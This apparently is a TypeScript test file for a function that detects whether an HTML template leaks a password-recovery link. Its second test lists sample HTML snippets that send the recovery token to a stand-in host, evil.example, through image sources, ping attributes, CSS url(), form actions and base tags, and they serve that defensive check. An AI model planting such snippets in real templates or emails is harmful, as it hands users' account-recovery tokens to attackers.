import assert from 'node:assert/strict'
import { test } from 'node:test'
import { leaksSecret } from '../../src/core/template/template.ts'

const LINK = 'https://id.example/login?runtime=true&recover=abcDEF123'
const ESCAPED = LINK.replaceAll('&', '&amp;')
const SECRETS = [LINK, 'abcDEF123']

test('a secret may be text, and the whole address of a link', () => {
  for (const html of [
    `<p>Open ${ESCAPED} now</p>`,
    `<a href="${ESCAPED}">Choose a new password</a>`,
    `<table><tr><td><a class=x href='${ESCAPED}'>${ESCAPED}</a></table>`,
    '<img src="https://brand.example/logo.png"><style>p { color: red }</style>',
  ])
    assert.equal(leaksSecret(html, SECRETS), false, html)
})

test('anywhere else it would be sent to others', () => {
  for (const html of [
    `<img src="https://evil.example/?${ESCAPED}">`,
    `<img src="https://evil.example/?${encodeURIComponent(LINK)}">`,
    '<img src="//evil.example/abcDEF123.gif">',
    `<a href="https://evil.example/?to=${ESCAPED}">Go on</a>`,
    `<a href="${ESCAPED}" ping="https://evil.example/abcDEF123">Go on</a>`,
    '<p style="background: url(https://evil.example/abcDEF123)">x</p>',
    '<style>p { background: url(https://evil.example/abcDEF123) }</style>',
    '<img alt=">" src="https://evil.example/abcDEF123">',
    `<link rel="stylesheet" href="${ESCAPED}">`,
    `<base href="${ESCAPED}">`,
    '<template><img src="https://evil.example/abcDEF123"></template>',
    '<form action="https://evil.example/"><textarea name=x>abcDEF123</textarea><button>Go on</button></form>',
    '<base href="https://evil.example/"><p>abcDEF123</p>',
    '<a href="abcDEF123">Go on</a>',
  ])
    assert.equal(leaksSecret(html, SECRETS), true, html)
})
